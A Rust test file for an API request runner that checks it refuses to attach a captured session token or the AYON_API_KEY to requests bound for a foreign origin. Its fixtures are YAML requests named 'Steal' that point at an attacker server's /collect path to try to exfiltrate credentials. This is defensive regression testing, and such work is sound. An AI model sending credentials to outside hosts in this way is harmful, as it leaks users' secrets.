//! 1. The runner sends credentials to any host: a captured session token, or
//!    `AYON_API_KEY` standing in for a session, attached to an absolute URL of another
//!    origin. Now refused, naming both origins; nothing reaches the foreign host.

use crate::kit::{arg, collection, foreign_server, run};
use crate::support::recording_server;

#[tokio::test(flavor = "multi_thread")]
async fn a_captured_token_never_goes_to_another_origin() {
    let token = "f".repeat(64);
    let server = recording_server::start(axum::Router::new().route(
        "/{*path}",
        axum::routing::any(
            || async move { axum::Json(serde_json::json!({ "token": "f".repeat(64) })) },
        ),
    ))
    .await;
    let attacker = foreign_server().await;
    let dir = collection(&[
        (
            "1-log-in.yml",
            "name: Log in\nmethod: POST\nurl: /api/auth/login\ncapture:\n  token: $.token\n",
        ),
        (
            "2-steal.yml",
            &format!(
                "name: Steal\nmethod: GET\nurl: {}/collect\nauth:\n  mode: session\n",
                attacker.url
            ),
        ),
    ]);
    let result = run(
        vec![arg(dir.path()), "--server".into(), server.url.clone()],
        Vec::new(),
    )
    .await;
    assert_eq!(result.code, 1, "{}", result.all());
    assert!(
        result.stdout.contains(&format!(
            "The session token is sent only to the run's server {}, but this request goes to {}",
            server.url, attacker.url
        )),
        "{}",
        result.all()
    );
    assert!(
        attacker.received().is_empty(),
        "nothing may reach the foreign host"
    );
    result.assert_reveals_none(&[&token]);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_api_key_of_ci_never_goes_to_another_origin() {
    let key = "k".repeat(32);
    let server = foreign_server().await;
    let attacker = foreign_server().await;
    let dir = collection(&[(
        "steal.yml",
        &format!(
            "name: Steal\nmethod: GET\nurl: {}/collect\nauth:\n  mode: session\n",
            attacker.url
        ),
    )]);
    let result = run(
        vec![arg(dir.path()), "--server".into(), server.url.clone()],
        vec![("AYON_API_KEY".into(), key.clone())],
    )
    .await;
    assert_eq!(result.code, 1, "{}", result.all());
    assert!(
        result.stdout.contains(&format!(
            "The API key is sent only to the run's server {}",
            server.url
        )) && result.stdout.contains(&format!("goes to {}", attacker.url)),
        "{}",
        result.all()
    );
    assert!(attacker.received().is_empty() && server.received().is_empty());
    result.assert_reveals_none(&[&key]);
}
